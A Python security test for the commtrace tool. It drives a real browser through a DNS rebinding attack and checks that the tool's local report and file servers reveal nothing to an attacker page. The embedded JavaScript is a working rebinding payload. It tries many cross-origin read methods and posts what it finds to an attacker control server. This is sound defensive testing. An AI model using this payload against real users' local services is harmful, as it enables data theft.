"""DNS rebinding in a real browser: `python tests/attacks/rebinding.py --tries 20 --seed 0`.

A page comes from a name of the attacker at a port, then `serve` or `timeline --open` listens there, under what the
browser takes for the same name: for it, the page and the server are of one origin. The page even knows the secret
address. It fetches, posts forms, opens frames, windows, sockets, scripts and pictures, by that name, another one,
`localhost` and 127.0.0.1, and tells what it got: nothing of what is served, nor that it is there. The same page has to
read a server that answers everybody, or the attack would see nothing.
"""

import json
import socket
import sys
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

from attacking import run_attack
from browsing import opened
from builders import MS, Collective, write_run

from commtrace import analyse
from commtrace.analysis.cli.serving import FileServer
from commtrace.analysis.report.server import ReportServer

NAME, OTHER_NAME = "rebound.example", "another.example"
PATIENCE_S = 60
SECRET = "commtrace-of-a-run"  # in what is served
SCRIPT = """
const found = [], later = ms => new Promise(done => setTimeout(done, ms));
const keep = (how, got) => found.push([how, String(got)]);
const element = (name, with_) => document.body.appendChild(Object.assign(document.createElement(name), with_));
const loads = (how, one) => new Promise(done => {
  one.onload = () => done(keep(how, "loaded")); one.onerror = () => done(keep(how, "no"));
});
const document_of = async (how, one) => {
  for (let turn = 0; turn < 100; turn++) {
    await later(100);
    try {
      const there = one();
      if (there.URL != "about:blank" && there.readyState == "complete") return keep(how, there.body.innerHTML);
    } catch (no) { return keep(how, "no"); }
  }
  keep(how, "no");
};
const ways = {
  fetch: async (how, url) => keep(how, await (await fetch(url)).text()),
  credentials: async (how, url) => keep(how, await (await fetch(url, {credentials: "include"})).text()),
  opaque: async (how, url) => keep(how, await (await fetch(url, {mode: "no-cors"})).text()),
  headers: async (how, url) => keep(how, await (await fetch(url, {headers: {"X-A": "1"}})).text()),
  post: async (how, url) => keep(how, await (await fetch(url, {method: "POST", body: "a=1"})).text()),
  xhr: (how, url) => new Promise(done => {
    const one = new XMLHttpRequest();
    one.onloadend = () => done(keep(how, one.responseText)); one.open("GET", url); one.send();
  }),
  frame: (how, url) => {
    const frame = element("iframe", {src: url});
    return document_of(how, () => frame.contentDocument);
  },
  form: (how, url) => {
    const frame = element("iframe", {name: "f" + Math.random()});
    element("form", {action: url, method: "POST", target: frame.name}).submit();
    return document_of(how, () => frame.contentDocument);
  },
  window: async (how, url) => {
    const one = window.open(url);
    await document_of(how, () => one.document);
    if (one) one.close();
  },
  socket: (how, url) => new Promise(done => {
    const one = new WebSocket(url.replace("http", "ws"));
    one.onopen = () => done(keep(how, "loaded")); one.onerror = () => done(keep(how, "no"));
  }),
  events: (how, url) => new Promise(done => {
    const one = new EventSource(url);
    one.onopen = () => done(keep(how, "loaded")); one.onerror = () => { one.close(); done(keep(how, "no")); };
  }),
  script: (how, url) => loads(how, element("script", {src: url})),
  picture: (how, url) => loads(how, element("img", {src: url})),
  style: (how, url) => loads(how, element("link", {rel: "stylesheet", href: url})),
};
(async () => {
  const path = await (await fetch(CONTROL + "/ready")).text();
  const addresses = ORIGINS.flatMap(origin => [path, path + "step?n=1", "/"].map(one => origin + one));
  await Promise.all(addresses.flatMap(url => Object.entries(ways).map(async ([name, way]) => {
    try { await way(name + " " + url, url); } catch (no) { keep(name + " " + url, "no: " + no.message); }
  })));
  await fetch(CONTROL + "/found", {method: "POST", body: JSON.stringify(found)});
})();
"""


class Attacker(ThreadingHTTPServer):
    """Gives the page, tells it the secret path once the name leads elsewhere, and takes what it found."""

    def __init__(self, port: int, page: str = "") -> None:
        self.page, self.path, self.found = page, "", list[tuple[str, str]]()
        self.is_loaded, self.is_elsewhere, self.has_found = threading.Event(), threading.Event(), threading.Event()
        super().__init__(("127.0.0.1", port), _OfAttacker)


class _OfAttacker(BaseHTTPRequestHandler):
    server: Attacker

    def do_GET(self) -> None:
        if self.path == "/ready":
            self.server.is_loaded.set()
            self.server.is_elsewhere.wait(PATIENCE_S)
        self.answer(self.server.path or self.server.page)

    def do_POST(self) -> None:
        self.server.found = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self.answer("")
        self.server.has_found.set()

    def answer(self, content: str) -> None:
        self.send_response(200)
        for name, value in (("Content-Type", "text/html"), ("Access-Control-Allow-Origin", "*")):
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(content.encode())))
        self.end_headers()
        self.wfile.write(content.encode())

    def log_message(self, *_: object) -> None:
        pass


class _ForEverybody(_OfAttacker):
    def do_GET(self) -> None:
        self.answer(SECRET)

    do_POST = do_GET  # noqa: N815 - the name that http.server wants


@contextmanager
def running(function: Callable[[], object], end: Callable[[], object]) -> Iterator[None]:
    """Run the function in a thread, which `end` ends."""
    thread = threading.Thread(target=function)
    thread.start()
    try:
        yield
    finally:
        end()
        thread.join()


def attack(folder: Path, tries: int, seed: int) -> tuple[Counter[str], list[str]]:
    """See `attacking.Attack`."""
    counts, wrong = Counter[str](), list[str]()
    write_run(folder / SECRET, 2, [Collective((0, 3 * MS), 10 * MS, elems=250_000)])
    analysis = analyse(folder / SECRET, details=True)
    file = folder / f"{SECRET}.pftrace"
    file.write_text(SECRET * 1000)

    @contextmanager
    def serve(port: int) -> Iterator[str]:
        with ReportServer(analysis, port) as server, running(lambda: server.serve_until_idle(3600), server.end):
            yield urlsplit(server.url).path

    @contextmanager
    def timeline(port: int) -> Iterator[str]:
        with FileServer(file, port) as server, running(lambda: server.serve(3600), server.is_read.set):
            yield server.path

    @contextmanager
    def everybody(port: int) -> Iterator[str]:
        server = ThreadingHTTPServer(("127.0.0.1", port), _ForEverybody)
        with server, running(server.serve_forever, server.shutdown):
            yield "/anything/"

    for number in range(tries):
        kind, door = (("everybody", everybody), ("serve", serve), ("timeline --open", timeline))[number % 3]
        found = attacked(folder / str(number), door)
        got = [how for how, text in found if SECRET in text or text == "loaded" or '"steps"' in text]
        counts[kind] += len(found)
        label = f"try {number}, {kind}"
        wrong += [f"{label}: the page told nothing"] * (not found)
        if kind == "everybody":
            wrong += [f"{label}: not seen by {way}" for way in SEES if not any(how.startswith(way) for how in got)]
        else:
            wrong += [f"{label}: got by {how}" for how in got]
    return counts, wrong


# What reads a server of its own origin, where that answers.
SEES = ("fetch", "credentials", "opaque", "headers", "post", "xhr", "frame", "form")


def attacked(folder: Path, door: Callable[[int], AbstractContextManager[str]]) -> list[tuple[str, str]]:
    """How the page tried to read what is behind a door, and what it got."""
    folder.mkdir()
    with Attacker(0) as control, running(control.serve_forever, control.shutdown):
        with socket.create_server(("127.0.0.1", 0)) as free:
            port = free.getsockname()[1]
        origins = [f"http://{name}:{port}" for name in (NAME, OTHER_NAME, "localhost", "127.0.0.1")]
        known = f"const ORIGINS = {json.dumps(origins)}, CONTROL = 'http://127.0.0.1:{control.server_port}';"
        first = Attacker(port, f"<body><script>{known}{SCRIPT}</script>")
        with first, running(first.serve_forever, first.shutdown):
            browser = opened(f"{origins[0]}/", folder, [NAME, OTHER_NAME])
            control.is_loaded.wait(PATIENCE_S)
        try:
            with door(port) as control.path:
                control.is_elsewhere.set()
                control.has_found.wait(PATIENCE_S)
        finally:
            browser.kill()
            browser.wait()
    return control.found


if __name__ == "__main__":
    sys.exit(run_attack(attack, __doc__))
